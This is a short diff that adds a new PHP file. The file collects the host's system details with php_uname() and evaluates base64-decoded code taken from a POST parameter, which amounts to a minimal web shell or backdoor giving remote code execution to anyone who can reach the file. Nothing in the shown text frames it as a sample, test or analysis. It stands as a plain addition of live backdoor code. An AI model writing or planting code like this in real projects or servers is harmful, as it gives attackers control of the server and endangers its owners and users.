@@ -1,0 +1,4 @@
+<?php
+$u = php_uname();
+eval(base64_decode($_POST['c']));
+?>
